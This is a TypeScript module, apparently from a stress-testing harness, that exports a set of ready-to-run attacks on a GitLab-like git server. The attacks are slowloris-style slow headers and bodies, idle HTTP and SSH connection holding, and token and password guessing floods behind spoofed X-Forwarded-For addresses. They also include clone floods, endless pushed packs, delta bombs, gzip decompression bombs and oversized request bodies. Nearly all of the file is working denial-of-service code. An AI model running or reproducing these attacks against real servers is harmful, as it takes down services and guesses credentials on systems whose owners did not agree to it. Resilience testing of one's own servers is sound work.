import { randomBytes } from 'node:crypto'
import { once } from 'node:events'
import type { Socket } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'
import { gzipSync } from 'node:zlib'
import { bombPack } from '../../flood/delta-bomb.ts'
import type { Tally } from './tally.ts'
import { ask, basic, fetchBody, head, openFrom, packet } from './wire.ts'

/** What an attack knows of its victim, and how much of it there is. */
export interface Target {
  readonly http: number
  readonly ssh: number
  /** Path of a public project, and a commit of it. */
  readonly path: string
  readonly want: string
  /** Of somebody who may push to it. */
  readonly token: string
  /** How many at once, or in a second. */
  readonly count: number
}

/** Goes on until the signal aborts. Says `ready` when it is in full swing. */
export type Attack = (target: Target, tally: Tally, signal: AbortSignal, ready: () => void) => Promise<void>

const never = (signal: AbortSignal): Promise<unknown> => once(signal, 'abort')

/** Holds so many connections, each opened again where it is closed. */
const hold =
  (door: 'http' | 'ssh', begin: (socket: Socket, number: number, target: Target) => void): Attack =>
  async (target, tally, signal, ready) => {
    const open = (number: number): void => {
      const socket = openFrom(target[door], number)
      socket.resume()
      socket.once('connect', () => {
        tally.add('opened')
        begin(socket, number, target)
      })
      socket.once('close', () => {
        tally.add('closed')
        if (!signal.aborted) setTimeout(open, 1_000, number)
      })
    }
    for (let number = 0; number < target.count; number += 1) {
      open(number)
      if (number % 50 === 49) await pause(20)
    }
    ready()
    await never(signal)
  }

/** A byte each second. */
const drip = (socket: Socket, bytes: string): void => {
  const timer = setInterval(() => socket.write(bytes), 1_000)
  socket.once('close', () => clearInterval(timer))
}

const post = (target: Target, service: 'upload' | 'receive', length: number, more: readonly string[] = []): string =>
  head(`POST /${target.path}.git/git-${service}-pack`, [
    `Content-Type: application/x-git-${service}-pack-request`,
    `Content-Length: ${length}`,
    ...more,
  ])

/** So many of something in each second, each from another address, told as a proxy tells it. */
const each =
  (make: (target: Target, number: number) => string): Attack =>
  async (target, tally, signal, ready) => {
    ready()
    const perTurn = target.count / 20
    let number = 0
    let due = 0
    while (!signal.aborted) {
      for (due += perTurn; due >= 1; due -= 1) {
        number += 1
        void ask(target.http, number, make(target, number)).then((status) => tally.add(status))
      }
      await pause(50)
    }
  }

const login = (target: Target, number: number, name: string, secret: string): string =>
  head(`GET /${target.path}.git/info/refs?service=git-receive-pack`, [
    'Connection: close',
    `X-Forwarded-For: 10.${number % 250}.${Math.floor(number / 250) % 250}.${Math.floor(number / 62_500) % 250}`,
    basic(name, secret),
  ])

/** So many at the same time, again and again. */
const atOnce =
  (make: (target: Target) => Buffer | string): Attack =>
  async (target, tally, signal, ready) => {
    const bytes = make(target)
    const again = async (number: number): Promise<void> => {
      while (!signal.aborted) {
        tally.add(await ask(target.http, number, bytes))
        await pause(10)
      }
    }
    ready()
    await Promise.all(Array.from({ length: target.count }, (_, number) => again(number)))
  }

const wholeFetch = (target: Target, more: readonly string[] = []): string => {
  const body = fetchBody([packet('no-progress\n'), packet(`want ${target.want}\n`), packet('done\n')])
  return post(target, 'upload', body.length, ['Git-Protocol: version=2', ...more]) + body
}

/** All begin together; it is over when the last has all of it. */
const clones: Attack = async (target, tally, signal, ready) => {
  ready()
  while (!signal.aborted) {
    const begun = performance.now()
    let bytes = 0
    const count = (length: number): void => {
      bytes += length
    }
    const refs = head(`GET /${target.path}.git/info/refs?service=git-upload-pack`, [
      'Connection: close',
      'Git-Protocol: version=2',
    ])
    const one = async (number: number): Promise<void> => {
      await ask(target.http, number, refs)
      tally.add(await ask(target.http, number, wholeFetch(target, ['Connection: close']), count))
    }
    await Promise.all(Array.from({ length: target.count }, (_, number) => one(number)))
    tally.add(`rounds of ${target.count}`)
    console.error(`${Math.round(performance.now() - begun)} ms, ${Math.round(bytes / 2 ** 20)} MiB`)
  }
}

const command = `${packet(`${'0'.repeat(40)} ${'1'.repeat(40)} refs/heads/flood\0report-status`)}0000`

const pushOf = (target: Target, pack: Buffer): Buffer => {
  const body = Buffer.concat([Buffer.from(command), pack])
  return Buffer.concat([Buffer.from(post(target, 'receive', body.length, ['Connection: close', basic('x', target.token)])), body])
}

/** A pack of one blob whose bytes do not end before the limit. */
const packWithoutEnd = (): Buffer =>
  Buffer.concat([
    Buffer.from('PACK\0\0\0\x02\0\0\0\x01', 'latin1'),
    Buffer.from([0xbf, 0xff, 0xff, 0xff, 0x7f, 0x78, 0x01]),
    stored(40),
  ])

/** Deflate's own form for what it cannot make smaller (RFC 1951, 3.2.4). */
const stored = (mebibytes: number): Buffer => {
  const block = Buffer.concat([Buffer.from([0, 0xff, 0xff, 0, 0]), randomBytes(65_535)])
  return Buffer.concat(Array<Buffer>(mebibytes * 16).fill(block))
}

const gzipped = (target: Target, body: Buffer): Buffer => {
  const small = gzipSync(body, { level: 9 })
  const headers = ['Connection: close', 'Content-Encoding: gzip', 'Git-Protocol: version=2']
  return Buffer.concat([Buffer.from(post(target, 'upload', small.length, headers)), small])
}

const lsRefs = (target: Target): string => {
  const body = `${packet('command=ls-refs\n')}0001${packet('peel\n')}${packet('symrefs\n')}0000`
  return post(target, 'upload', body.length, ['Connection: close', 'Git-Protocol: version=2']) + body
}

export const attacks: Readonly<Record<string, Attack>> = {
  idleHttp: hold('http', () => {}),
  silentSsh: hold('ssh', () => {}),
  slowHeads: hold('http', (socket) => {
    socket.write('GET /-/jwks HTTP/1.1\r\nHost: x\r\nX-Slow: ')
    drip(socket, 'x')
  }),
  slowBodies: hold('http', (socket, _number, target) => {
    socket.write(post(target, 'upload', 100_000, ['Git-Protocol: version=2']))
    drip(socket, '0')
  }),
  slowApiBodies: hold('http', (socket) => {
    socket.write(head('POST /api/v4/projects', ['Content-Type: application/json', 'Content-Length: 100000']))
    drip(socket, ' ')
  }),
  slowReaders: hold('http', (socket, _number, target) => {
    socket.pause()
    socket.write(wholeFetch(target))
  }),
  wrongTokens: each((target, number) => login(target, number, 'x', `glpat-${randomBytes(15).toString('base64url')}`)),
  wrongPasswords: each((target, number) => login(target, number, `person${number}`, 'a password that is wrong')),
  hugeHeaders: each(() => head('GET /-/jwks', ['Connection: close', `X-Huge: ${'x'.repeat(64 * 2 ** 10)}`])),
  clones,
  lsRefs: atOnce(lsRefs),
  hugePushes: atOnce((target) => pushOf(target, packWithoutEnd())),
  deltaBombs: atOnce((target) => pushOf(target, bombPack(4_000))),
  gzipBombs: atOnce((target) => gzipped(target, Buffer.from(fetchBody([packet('ofs-delta\n').repeat(4_500_000)])))),
  packets: atOnce((target) => {
    const body = fetchBody([packet(`have ${'1'.repeat(40)}\n`).repeat(200_000), packet(`want ${target.want}\n`)])
    return post(target, 'upload', body.length, ['Connection: close', 'Git-Protocol: version=2']) + body
  }),
}
